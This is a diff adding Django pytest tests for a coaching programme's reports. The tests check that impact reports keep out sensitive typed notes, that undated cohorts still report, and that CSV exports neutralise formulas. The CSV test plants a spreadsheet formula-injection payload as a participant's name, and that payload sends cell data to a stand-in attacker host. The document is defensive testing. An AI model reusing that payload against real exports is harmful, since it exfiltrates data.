@@ -132,6 +132,61 @@ def test_the_impact_report_counts_and_quotes_the_impact_lead_only(client, world,
     assert "Secret spring reflection" not in text
 
 
+def test_the_impact_report_names_only_the_programmes_models_never_what_was_typed(client, world):
+    e = world.enrolment
+    CoachingSession.objects.create(
+        enrolment=e,
+        held_on=datetime.date(2026, 10, 3),
+        minutes=30,
+        coachee="NQT",
+        model_and_tools="GROW; talked about her divorce and panic attacks",
+    )
+    CoachingSession.objects.create(
+        enrolment=e,
+        held_on=datetime.date(2026, 10, 10),
+        minutes=30,
+        coachee="NQT",
+        model_and_tools="Wants to grow; a clear plan; scaling 1 to 10",
+    )
+    client.force_login(world.people["coaching lead"])
+    url = reverse("reports:impact", args=[e.organisation.pk]) + "?year=2026"
+    page = client.get(url).content.decode()
+    assert "GROW (1)" in page and "Scaling (1)" in page
+    for typed in ("divorce", "panic", "Talked about", "Wants to grow", "A clear plan", "CLEAR"):
+        assert typed not in page, typed
+    pdf = client.get(reverse("reports:impact-pdf", args=[e.organisation.pk]) + "?year=2026")
+    text = subprocess.run(
+        ["pdftotext", "-", "-"], input=pdf.content, capture_output=True, check=True
+    ).stdout.decode()
+    assert "GROW (1)" in text and "divorce" not in text
+
+
+def test_the_progress_spreadsheet_does_not_run_what_people_typed(client, world):
+    participant = world.enrolment.participant
+    participant.first_name = '=HYPERLINK("http://evil.example/?"&B2,"x")'
+    participant.save()
+    client.force_login(world.people["admin"])
+    body = client.get(reverse("reports:progress"), {"format": "csv"}).content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert '\'=HYPERLINK("http://evil.example/?"&B2,"x") ' + participant.last_name in cells
+    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
+
+
+def test_a_date_whose_sessions_are_not_set_yet_still_reports(client, world):
+    from tests.bookings import factories
+
+    undated = factories.cohort(sessions=0)
+    assert undated.starts_at is None
+    world.enrolment.cohort = undated
+    world.enrolment.save()
+    client.force_login(world.people["admin"])
+    page = client.get(reverse("reports:progress"))
+    assert page.status_code == 200
+    assert f"{undated.course.title}, dates to be set" in page.content.decode()
+    body = client.get(reverse("reports:progress"), {"format": "csv"}).content.decode("utf-8-sig")
+    assert f"{undated.course.title}, dates to be set" in body
+
+
 @pytest.mark.parametrize(
     ("who", "answer"),
     [
